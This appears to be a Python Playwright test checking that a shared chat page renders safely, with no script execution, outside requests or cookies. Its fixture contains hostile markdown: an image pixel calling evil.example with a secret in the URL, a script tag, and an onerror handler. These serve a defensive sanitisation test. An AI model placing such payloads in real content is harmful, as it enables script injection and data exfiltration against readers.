"""The page of a shared chat in a real browser: readable, quiet, and nobody's session."""

from __future__ import annotations

import os
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from conversations.shares import snapshot, store
from media.store import keep
from tests import people
from tests.browser.test_admin import browser  # noqa: F401 - a fixture
from tests.support.gateway import LiveGateway
from tests.support.pictures import picture

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
SHARE = "a-share-that-everybody-sees"
ANSWER = """Pay per token. At your volume a small hosted model costs about **$30 a month**; one rented card costs
six times that even if you switch it off during the day. See [the index](https://gpuindex.example/2026) and `cost.py`.

## Four ways to run it

| Option | Fixed | Per 1,000 tickets | At 40,000 |
|---|--:|--:|--:|
| gpt-5.2-mini, per token | – | $0.74 | $29.70 |
| claude-sonnet-4.6, per token | – | $7.65 | $306.00 |
| Rented L40S, reserved | $612.00 | – | $612.00 |

To check against next month’s export:

```python
import csv

PRICE_IN, PRICE_OUT = 0.25, 2.00   # dollars per million tokens

def monthly(path: str) -> float:
    with open(path, newline="") as f:
        rows = list(csv.DictReader(f))
    return sum(int(row["prompt_tokens"]) * PRICE_IN + int(row["completion_tokens"]) * PRICE_OUT for row in rows) / 1e6
```

Two things the arithmetic leaves out:

- Retries. Your gateway logged 1.8 % in October.
- Somebody has to own the card:
  1. half a day a month,
  2. more than the whole bill.

> A quotation of somebody wise.

![tracker](https://evil.example/pixel.png?secret=1)
<script>document.title = "ran"</script><img src=x onerror="document.title='ran'">
"""
WATCH = "document.documentElement.scrollWidth - document.documentElement.clientWidth"


@pytest.fixture
def address(gateway: LiveGateway) -> str:
    alice = people.alice()
    gateway.reload()
    own = keep(alice.pk, picture("teal"), label="poster.png", source="generated")
    items: list[dict[str, Any]] = [
        {
            "role": "user",
            "content": [
                {
                    "type": "text",
                    "text": "We summarise about 40,000 support tickets a month.\n\nIs it cheaper to rent?",
                },
                {"name": "tickets-oct.csv"},
                {"type": "image_url", "image_url": {"url": f"/media/{own.name}"}},
            ],
        },
        {
            "role": "assistant",
            "content": ANSWER,
            "provider": {"name": "Anthropic", "label": "Anthropic", "model": "claude-sonnet-4.6"},
            "reasoning": {"text": "The file has a row per ticket, so I can sum them rather than guess."},
        },
        {"role": "user", "content": "Good. Make a small cover picture. " + "Pneumono" * 30},
        {
            "role": "assistant",
            "content": f"[![poster](/media/{own.name})](/media/{own.name})",
            "provider": {"label": "OpenAI", "model": "gpt-image-2"},
            "finish": {"reason": "length"},
        },
    ]
    body = snapshot.from_body({"title": "Own GPU or pay per token?", "items": items})
    row = store.save(SHARE, alice.pk, body, 1)
    return f"{gateway.url}/chat/share/{row.id}"


def opened(browser: Browser, address: str, width: int, scheme: str) -> tuple[Page, list[str]]:  # noqa: F811
    """The page, and every address that it asked for or complained about."""
    context = browser.new_context(viewport={"width": width, "height": 900}, color_scheme=scheme)  # type: ignore[arg-type]
    page = context.new_page()
    seen: list[str] = []
    page.on("request", lambda request: seen.append(request.url))
    page.on("console", lambda message: seen.append(f"console: {message.text}"))
    page.goto(address)
    page.wait_for_load_state("networkidle")
    return page, seen


@pytest.mark.parametrize(("width", "scheme"), [(1280, "light"), (1280, "dark"), (390, "light"), (390, "dark")])
def test_it_can_be_read_and_does_nothing_else(
    gateway: LiveGateway,
    browser: Browser,  # noqa: F811
    address: str,
    width: int,
    scheme: str,
) -> None:
    page, seen = opened(browser, address, width, scheme)
    folder = os.environ.get("SCREENSHOTS")
    if folder:
        page.screenshot(path=Path(folder) / f"shared-{width}-{scheme}.png", full_page=True)
    assert page.evaluate(WATCH) <= 1
    assert page.title() == "Own GPU or pay per token?, shared · g4fsite"
    assert page.get_by_role("heading", name="Four ways to run it").is_visible()
    assert page.get_by_role("table").is_visible()
    assert page.locator(".prose script, .prose [onerror], .prose [style]").count() == 0
    assert page.get_by_role("link", name="tracker (evil.example)").get_attribute("rel") == (
        "noopener noreferrer nofollow ugc"
    )
    # The owner's pictures are there for whoever reads it, and nobody else's server heard of it.
    for at in range(page.locator("img").count()):
        page.locator("img").nth(at).scroll_into_view_if_needed()
    page.wait_for_load_state("networkidle")
    widths = page.evaluate("[...document.images].map(image => image.naturalWidth)")
    assert len(widths) == 2
    assert all(widths)
    assert [url for url in seen if not url.startswith(gateway.url)] == []
    assert page.context.cookies() == []
    page.get_by_text("Reasoning").click()
    assert page.get_by_text("The file has a row per ticket").is_visible()
    page.context.close()
